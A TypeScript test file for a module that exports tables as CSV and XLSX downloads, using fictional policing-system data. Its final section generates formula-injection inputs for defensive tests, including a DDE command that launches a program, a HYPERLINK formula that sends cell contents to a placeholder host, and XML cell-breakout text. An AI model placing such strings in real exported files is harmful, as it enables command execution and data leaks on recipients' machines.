import fc from 'fast-check';
import express from 'express';
import { once } from 'node:events';
import { get } from 'node:http';
import type { AddressInfo } from 'node:net';
import readWorkbook from 'read-excel-file/node';
import request from 'supertest';
import {
  type ExportAbout,
  type ExportRow,
  type ExportTable,
  sendTable,
  type TableFormat,
  WITHHELD,
} from '.';
import { guardText, unguardText } from './guardText';
import { writeXlsx } from './writeXlsx';

const about: ExportAbout = {
  title: 'Heat map',
  scope: 'Eastvale Police',
  registry: { name: 'demo', title: 'Demonstration', demonstration: true },
  blueprintVersion: 'Policing Technology Blueprint 1.0.0',
  date: '2026-11-21',
  coverage: 0.71,
  classification: 'OFFICIAL-SENSITIVE',
  notes: ['Only live systems.'],
};

const columns = [
  { key: 'title', title: 'System' },
  { key: 'share', title: 'Coverage', kind: 'share' },
  { key: 'count', title: 'Failing', kind: 'number' },
  { key: 'day', title: 'Ends', kind: 'date' },
] as const;

function tableOf(rows: ExportTable['rows']): ExportTable {
  return { name: 'Systems', title: 'What is run', columns, rows };
}

function serverOf(rows: () => ExportTable['rows'], format: TableFormat) {
  const app = express();
  app.get('/', (_request, response, next) => {
    sendTable(response, [tableOf(rows())], about, format).catch(next);
  });
  return app;
}

/** What is in a file, without the byte order mark. */
function download(rows: () => ExportTable['rows'], format: TableFormat) {
  return request(serverOf(rows, format))
    .get('/')
    .buffer(true)
    .parse((response, done) => {
      const chunks: Buffer[] = [];
      response.on('data', chunk => chunks.push(chunk));
      response.on('end', () => done(null, Buffer.concat(chunks)));
    });
}

const row: ExportRow = {
  title: 'Caseworks, "RMS"',
  share: 0.64,
  count: -3,
  day: '2026-11-21',
};

describe('sendTable', () => {
  it('writes CSV that programs and Excel read, with what it is about in every row', async () => {
    const { headers, body } = await download(
      () => [row, { title: '', share: WITHHELD, day: '2027' }],
      'csv',
    );
    expect(headers).toMatchObject({
      'content-type': 'text/csv; charset=utf-8',
      'content-disposition':
        'attachment; filename="heat-map-demo-2026-11-21.csv"',
    });
    const end =
      'OFFICIAL-SENSITIVE,Everything in this file is fictional,Eastvale Police,Demonstration,2026-11-21,Policing Technology Blueprint 1.0.0,0.71';
    expect(body.toString()).toBe(
      [
        '\uFEFFSystem,Coverage,Failing,Ends,Classification,Demonstration data,Scope,Register,Date,Blueprint version,Coverage',
        `"Caseworks, ""RMS""",0.64,-3,2026-11-21,${end}`,
        `,withheld,not known,2027,${end}`,
        '',
      ].join('\r\n'),
    );
  });

  it('writes a workbook with numbers, percentages and dates, and a sheet about it', async () => {
    const { headers, body } = await download(
      () => [row, { title: '', share: WITHHELD, day: '2027' }],
      'xlsx',
    );
    expect(headers['content-disposition']).toBe(
      'attachment; filename="heat-map-demo-2026-11-21.xlsx"',
    );
    const [first, second] = await readWorkbook(body as Buffer);
    expect([first.sheet, second.sheet]).toEqual(['About', 'Systems']);
    expect(first.data).toEqual(
      expect.arrayContaining([
        ['Heat map', null],
        ['Classification', 'OFFICIAL-SENSITIVE'],
        ['Demonstration data', 'Everything in this file is fictional'],
        ['Date', new Date('2026-11-21T00:00:00Z')],
        ['Blueprint version', 'Policing Technology Blueprint 1.0.0'],
        ['Coverage', 0.71],
        ['Note', 'Only live systems.'],
      ]),
    );
    expect(second.data).toEqual([
      ['System', 'Coverage', 'Failing', 'Ends'],
      ['Caseworks, "RMS"', 0.64, -3, new Date('2026-11-21T00:00:00Z')],
      [null, 'withheld', 'not known', '2027'],
    ]);
  });

  it.each(['csv', 'xlsx'] as const)(
    'answers an error of the first rows as an error: %s',
    async format => {
      const { status } = await request(
        serverOf(async function* rows(): AsyncGenerator<ExportRow> {
          throw new Error('The database is gone');
        }, format),
      ).get('/');
      expect(status).toBe(500);
    },
  );

  it.each(['csv', 'xlsx'] as const)(
    'breaks the connection where an error comes later: %s',
    async format => {
      await expect(
        download(async function* rows() {
          for (let count = 0; count < 5_000; count += 1) {
            yield row;
          }
          throw new Error('The database is gone');
        }, format),
      ).rejects.toThrow(/aborted|hang up/);
    },
  );

  it.each(['csv', 'xlsx'] as const)(
    'takes rows no faster than they are read, and stops when nobody reads: %s',
    async format => {
      let taken = 0;
      let stopped: () => void;
      const stop = new Promise<void>(resolve => {
        stopped = resolve;
      });
      const server = serverOf(async function* rows() {
        try {
          for (; taken < 5_000_000; taken += 1) {
            yield { ...row, title: `${Math.random()}${Math.random()}` };
          }
        } finally {
          stopped();
        }
      }, format).listen(0);
      const { port } = server.address() as AddressInfo;
      const [response] = await once(get({ port }), 'response');
      response.once('data', () => response.pause());
      let before = -1;
      while (before < taken) {
        before = taken;
        await new Promise(resolve => setTimeout(resolve, 300));
      }
      expect(taken).toBeLessThan(1_000_000);
      response.destroy();
      await stop;
      server.close();
    },
    30_000,
  );
});

/** Text that tries to be a formula, or to break out of its cell. */
const hostile = fc
  .tuple(
    fc.constantFrom(
      '',
      ' ',
      '\t',
      '\r',
      '\n',
      '"',
      "'",
      '\uFEFF',
      '\u00a0',
      '”',
    ),
    fc.constantFrom(
      '=',
      '+',
      '-',
      '@',
      '＝',
      '＋',
      '－',
      '＠',
      '|',
      '%',
      '',
      '_x003D_',
    ),
    fc.oneof(
      fc.constantFrom(
        "cmd|' /C calc'!A0",
        'HYPERLINK("https://example.org?"&A1)',
        '</t></is></c><c t="str"><f>1+1</f></c>',
        '",=1+1',
        '\u0000\u0008',
        '\ud800',
      ),
      fc.string({ unit: 'grapheme' }),
    ),
  )
  .map(parts => parts.join(''));

describe('text that would be a formula', () => {
  it('never starts one in CSV, and can be had back', () => {
    fc.assert(
      fc.property(hostile, text => {
        const safe = guardText(text);
        const isDangerous = /^[\s'"\uFEFF”]*[=+\-@＝＋－＠|%]|^[\t\r\n]/u.test(
          text,
        );
        expect(isDangerous && !safe.startsWith("'")).toBe(false);
        expect(unguardText(safe)).toBe(text);
      }),
    );
  });

  it('stays the text it was in a workbook', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(hostile, { minLength: 1, maxLength: 20 }),
        async texts => {
          const chunks: Buffer[] = [];
          const rows = texts.map(title => ({ title, count: 1 }));
          for await (const chunk of writeXlsx([tableOf(rows)], about)) {
            chunks.push(chunk);
          }
          const sheets = await readWorkbook(Buffer.concat(chunks), {
            trim: false,
          });
          expect(sheets[1].data.slice(1).map(([title]) => title)).toEqual(
            texts.map(text =>
              text === '' ? null : text.replace(/\p{Cs}/gu, '\uFFFD'),
            ),
          );
        },
      ),
      { numRuns: 50 },
    );
  }, 60_000);
});
